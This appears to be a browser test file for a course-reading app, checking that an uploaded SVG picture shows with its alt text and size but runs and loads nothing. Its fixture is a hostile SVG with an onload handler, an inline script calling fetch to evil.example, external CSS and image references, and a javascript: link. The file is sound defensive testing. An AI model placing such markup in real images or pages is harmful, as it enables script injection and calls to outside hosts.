// Pictures of a course where it is read, cited and asked: shown with their words and size, and nothing in them runs or loads.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { ingestFolder } from '../../scripts/content/ingest-folder.ts';
import { findStackSettings } from '../../scripts/content/stack-settings.ts';
import { accessibilityFaults, ask, panel, phone, stackUrl, useBrowser } from './support.ts';

const browser = useBrowser();
const words = 'A kestrel hovers above a meadow with its tail spread';

const hostileSvg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="320" height="200" onload="steal()">
  <style>@import url("https://evil.example/a.css"); rect { fill: url("https://evil.example/b.svg#x"); }</style>
  <script>steal(); fetch('https://evil.example/c')</script>
  <image xlink:href="https://evil.example/d.png" width="10" height="10"/>
  <a xlink:href="javascript:steal()"><rect width="320" height="200" fill="#9cb"/></a>
</svg>`;

beforeAll(async () => {
  const folder = mkdtempSync(join(tmpdir(), 'groundwork-pictures-'));
  try {
    writeFileSync(join(folder, 'kestrel.svg'), hostileSvg);
    const manifest =
      'title: Falcons\nprofile: textbook\nlicence: CC0-1.0\ndocuments:\n  - { path: kestrels.md, chapter: 1 }\n';
    writeFileSync(join(folder, 'course.yaml'), manifest);
    const text = `# Kestrels\n\nA kestrel is a small falcon that hunts voles.\n\n![${words}](kestrel.svg)\n\n## Nests\n\nKestrels nest in holes of trees.\n`;
    writeFileSync(join(folder, 'kestrels.md'), text);
    await ingestFolder({ settings: await findStackSettings(process.env), courseId: 'falcons', folder });
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}, 60_000);

/** Requests that leave the stack, and whatever a picture ran. */
async function watched(options = {}) {
  const visitor = await browser.visit('/read?course=falcons&part=C1', options);
  const outside: string[] = [];
  visitor.page.on('request', (request) => {
    if (!request.url().startsWith(stackUrl())) outside.push(request.url());
  });
  await visitor.page.addInitScript(() => Object.assign(window, { steal: () => console.error('a picture ran') }));
  await visitor.page.reload();
  return { ...visitor, outside };
}

describe('a picture of the course', () => {
  it.each([
    ['wide', {}],
    ['narrow', { viewport: phone }],
  ])('stands on the page that is read, with its words and its size (%s)', async (_, options) => {
    const { page, complaints, outside } = await watched(options);
    const picture = page.getByRole('img', { name: words });
    await picture.scrollIntoViewIfNeeded();
    await expect.poll(() => picture.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(320);
    expect(await picture.evaluate((image: HTMLImageElement) => [image.width, image.height, image.loading])).toEqual([
      ...[320, 200, 'lazy'],
    ]);
    expect(await accessibilityFaults(page)).toEqual([]);
    expect({ complaints, outside }).toEqual({ complaints: [], outside: [] });
  });

  it('stands in an answer that its words are quoted in, and beside its source', async () => {
    const { page } = await browser.visit('/?course=falcons');
    const turn = await ask(page, 'Where does a kestrel hover with its tail spread?');
    await expect.poll(() => turn.getByRole('img', { name: words }).count()).toBe(1);
    await turn.locator('a.mark').first().click();
    await expect.poll(() => panel(page).getByRole('img', { name: words }).count()).toBe(1);
  });

  it('runs and loads nothing at its own address either', async () => {
    const { page, outside } = await watched();
    const address = (await page.getByRole('img', { name: words }).getAttribute('src')) ?? '';
    const complaints: string[] = [];
    const failures: string[] = [];
    page.on('requestfailed', (request) => {
      if (outside.includes(request.url())) failures.push(`${request.url()} ${request.failure()?.errorText}`);
    });
    page.on('console', (message) => complaints.push(message.text()));
    const response = await page.goto(address);
    expect(response?.headers()['content-type']).toBe('image/svg+xml');
    await page.waitForTimeout(500);
    expect(complaints.filter((text) => text.includes('a picture ran'))).toEqual([]);
    // What it asked for, the policy forbade: none left the browser.
    expect(outside.length).toBeGreaterThan(0);
    expect(failures.toSorted()).toEqual(outside.map((url) => `${url} csp`).toSorted());
  });
});
